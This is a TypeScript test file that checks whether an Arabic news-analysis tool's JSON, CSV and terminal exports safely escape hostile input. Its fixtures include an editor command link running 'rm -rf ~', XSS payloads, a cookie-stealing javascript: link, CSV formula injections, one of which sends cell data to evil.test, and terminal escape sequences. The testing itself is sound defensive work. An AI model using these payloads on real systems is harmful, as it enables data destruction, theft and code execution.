/**
 * Hostile article text and file names through the engine's exports
 * (src/core/report/report.ts): JSON round-trips exactly, CSV quotes and
 * neutralises formulas, the terminal report shows control characters instead
 * of obeying them. (Markdown escaping is the editor layer's: src/vscode.)
 */
import { describe, expect, it } from 'vitest';
import { Corpus } from '../../src/core/corpus/corpus';
import { buildReport, formatReport, formatReportJson, terminalSafe, type Report } from '../../src/core/report/report';
import { csvCell, formatReportCsv } from '../../src/core/report/csv';
import { parseCsv } from '../fuzz/oracle';

const HOSTILE = [
  '[اضغط هنا](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%5Cn%22%7D)',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[رابط](javascript:alert(document.cookie))',
  '[ملف](file:///etc/passwd)',
  '![صورة](https://evil.test/x.png)',
  '\u001b]0;pwned\u0007\u001b[2J\u001b[31m',
  '=HYPERLINK("https://evil.test/?"&A1,"انقر")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+1+1',
  '-2+3',
  '"quoted", comma',
  '\u202eكلمة معكوسة\u202c',
];
/** Long enough to wrap any cell, short enough to stay in one sentence (sentences are cut at MAX_SENTENCE_CHARS). */
const LONG_WORD = 'ب'.repeat(1_500);
const HUGE_WORD = 'ت'.repeat(50_000);

function hostileCorpus(): { corpus: Corpus; report: Report } {
  const corpus = new Corpus();
  const body = (h: string): string => `${h} قال الرئيس الأمريكي دونالد ترامب إن إيران وافقت على الاتفاق النووي الجديد ${h}.`;
  corpus.setArticle('=cmd|\' /C calc\'!A0.txt', `عنوان ${HOSTILE[0]} عن إيران\n${HOSTILE.map(body).join('\n')}`);
  corpus.setArticle('a\nفي سطرين\u202e.txt', `${HOSTILE[7]} ترامب\n${body(HOSTILE[1])}\nوقال ترامب ${LONG_WORD} إن إيران وافقت.`);
  corpus.setArticle('@b,"c".txt', `\ud800 ترامب \udc00 وحيد\n${body('\u001b[2J')}\nقال ترامب ${HUGE_WORD} إن إيران وافقت.`);
  return { corpus, report: buildReport(corpus) };
}

describe('hostile text in exports', () => {
  const { corpus, report } = hostileCorpus();
  const texts = (r: Report): string[] => [
    ...r.articles.flatMap((a) => [a.file, a.title, ...a.mentions.map((m) => m.text)]),
    ...[...r.claims, ...r.singleSourceClaims].flatMap((c) => [c.text, ...c.sentences.map((s) => s.text)]),
  ];

  it('the corpus carries the hostile strings into the report (the test is not vacuous)', () => {
    const all = texts(report).join('\n');
    for (const h of [HOSTILE[0], HOSTILE[1], HOSTILE[6], HOSTILE[7], LONG_WORD, '\ud800']) expect(all).toContain(h);
    expect(report.claims.length + report.singleSourceClaims.length).toBeGreaterThan(3);
  });

  it('JSON round-trips every string exactly (links, HTML, control characters, lone surrogates, very long words)', () => {
    // The 50,000-letter word: in sentences of at most 2,000 units, all of it, and the analysis round-trips too.
    const a = corpus.getArticle('@b,"c".txt')!;
    const line = a.sentences[a.sentences.length - 1].line;
    const huge = a.sentences.filter((s) => s.line === line);
    expect(huge.map((s) => s.text).join('')).toBe(`قال ترامب ${HUGE_WORD} إن إيران وافقت.`);
    expect(huge.every((s) => s.text.length <= 2000)).toBe(true);
    expect(JSON.parse(JSON.stringify(a))).toEqual(a);
    const json = JSON.stringify(report, null, 2);
    expect(JSON.parse(json)).toEqual(report);
    expect(texts(JSON.parse(json))).toEqual(texts(report));
    // JSON escapes what it must: no raw control character and no lone surrogate in the output.
    expect(json).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
    expect(json).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/);
    expect(Buffer.from(json, 'utf8').toString('utf8')).toBe(json); // survives a UTF-8 file
    // The CLI's JSON also escapes bidi controls, so a terminal cannot reorder it; same data back.
    const cli = formatReportJson(report);
    expect(cli).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u2028\u2029]/);
    expect(cli).toContain('\\u202e');
    expect(JSON.parse(cli)).toEqual(report);
  });

  it('CSV: RFC 4180 quoting, CRLF rows, every cell reads back', () => {
    for (const table of ['mentions', 'claims'] as const) {
      const csv = formatReportCsv(report, table);
      const rows = parseCsv(csv);
      expect(new Set(rows.map((r) => r.length)).size).toBe(1);
      expect(csv.endsWith('\r\n')).toBe(true);
    }
    const rows = parseCsv(formatReportCsv(report, 'claims'));
    const header = rows[0];
    expect(header).toEqual(['claim_id', 'type', 'claim_text', 'sources', 'origins', 'date', 'actors', 'disagreements', 'file', 'line', 'start', 'end', 'sentence_text']);
    const sentences = rows.slice(1).map((r) => r[header.indexOf('sentence_text')]);
    expect(sentences.some((s) => s.includes(LONG_WORD))).toBe(true);
    expect(sentences.some((s) => s.includes('"quoted", comma'))).toBe(true);
    expect(rows.slice(1).map((r) => r[header.indexOf('file')])).toContain('a\nفي سطرين\u202e.txt');
  });

  it('CSV: cells a spreadsheet would run as a formula get a leading apostrophe', () => {
    const rows = parseCsv(formatReportCsv(report, 'claims')).slice(1);
    const cells = rows.flat();
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain("'=cmd|' /C calc'!A0.txt");
    expect(cells).toContain("'@b,\"c\".txt");
    expect(cells.some((c) => c.startsWith("'=HYPERLINK("))).toBe(true);
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-1')).toBe("'-1");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe('"\'\r=1"');
    expect(csvCell('  =1')).toBe("'  =1");
    expect(csvCell('\u200f=1')).toBe("'\u200f=1"); // behind an invisible bidi mark
    expect(csvCell('＝1')).toBe("'＝1"); // full-width
    expect(csvCell('a=1')).toBe('a=1');
    expect(csvCell('قال "نعم", ثم')).toBe('"قال ""نعم"", ثم"');
    expect(csvCell('سطر\nسطر')).toBe('"سطر\nسطر"');
  });

  it('CSV: a BOM only when asked for (spreadsheets need it for UTF-8 Arabic)', () => {
    expect(formatReportCsv(report, 'mentions').startsWith('file,')).toBe(true);
    expect(formatReportCsv(report, 'mentions', { bom: true }).startsWith('\ufefffile,')).toBe(true);
  });

  it('text report: control characters shown, not obeyed; bidi overrides dropped; one report line per item', () => {
    for (const isolate of [false, true]) {
      const txt = formatReport(report, { isolate });
      expect(txt).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
      expect(txt).not.toMatch(/[\u202a-\u202e]/);
      expect(txt).toContain('\\x1b[2J');
      expect(txt).toContain('a\\nفي سطرين.txt');
      expect(txt).toContain('\ufffd ترامب \ufffd');
      if (!isolate) expect(txt).not.toMatch(/[\u2066-\u2069]/);
      // Every file line is one line: the forged «في سطرين» never starts a line.
      expect(txt.split('\n').some((l) => l.startsWith('في سطرين'))).toBe(false);
    }
  });

  it('text report: disagreement details and origins are made safe too', () => {
    const claim = {
      id: 'claim:x', text: 'نص', origins: ['\u001b[31mمصدر'], originKinds: {}, date: null, actors: [],
      chains: [{ origin: '\u001b[31mمصدر', kind: 'unnamed' as const, retellings: [{ file: 'b\r.txt', line: 0, quoted: '\u202eمسؤول' }] }],
      sentences: [{ file: 'a.txt', line: 0, start: 0, end: 2, text: 'نص' }, { file: 'b\r.txt', line: 0, start: 0, end: 2, text: 'نص' }],
      disagreements: [{ kind: 'number' as const, detail: '20\u202e | \u001b]8;;https://evil.test\u0007 25', files: ['a.txt', 'b\r.txt'] }],
    };
    const txt = formatReport({ articles: [], actors: [], claims: [claim], singleSourceClaims: [] });
    expect(txt).toContain('versions differ (number): 20 | \\x1b]8;;https://evil.test\\x07 25');
    expect(txt).toContain('\\x1b[31mمصدر');
    expect(txt).toContain('origin: \\x1b[31mمصدر (unnamed)');
    expect(txt).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202a-\u202e]/);
    const csv = parseCsv(formatReportCsv({ articles: [], actors: [], claims: [claim], singleSourceClaims: [] }, 'claims'));
    expect(csv[1][7]).toBe('number: 20\u202e | \u001b]8;;https://evil.test\u0007 25'); // CSV keeps the data as it is
  });

  it('text and JSON report: the sides of a disagreement, each with its files, made safe', () => {
    const claim = {
      id: 'claim:x', text: 'نص', origins: ['أ'], originKinds: {}, date: null, actors: [], chains: [],
      sentences: [{ file: 'a.txt', line: 0, start: 0, end: 2, text: 'نص' }, { file: 'b\r.txt', line: 0, start: 0, end: 2, text: 'نص' }, { file: 'c.txt', line: 0, start: 0, end: 2, text: 'نص' }],
      disagreements: [{ kind: 'number' as const, detail: '20 | \u001b[2J25', files: ['a.txt', 'b\r.txt', 'c.txt'], sides: [{ says: '20', files: ['a.txt', 'c.txt'] }, { says: '\u001b[2J25', files: ['b\r.txt'] }] }],
    };
    const r = { articles: [], actors: [], claims: [claim], singleSourceClaims: [] };
    expect(formatReport(r)).toContain('versions differ (number): 20 | \\x1b[2J25  [20: a.txt, c.txt; \\x1b[2J25: b\\r.txt]');
    const json = formatReportJson(r);
    expect(json).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
    expect(JSON.parse(json).claims[0].disagreements[0].sides).toEqual([{ says: '20', files: ['a.txt', 'c.txt'] }, { says: '\u001b[2J25', files: ['b\r.txt'] }]);
  });

  it('terminalSafe', () => {
    expect(terminalSafe('a\u001b[31mb\r\nc\u0007\u007f\u0085')).toBe('a\\x1b[31mb\\r\\nc\\x07\\x7f\\x85');
    expect(terminalSafe('\u202eabc\u2066d\u2069\u200f')).toBe('abcd\u200f');
    expect(terminalSafe('😀\ud800x\udc00')).toBe('😀\ufffdx\ufffd');
    expect(terminalSafe('قال ترامب')).toBe('قال ترامب');
  });
});
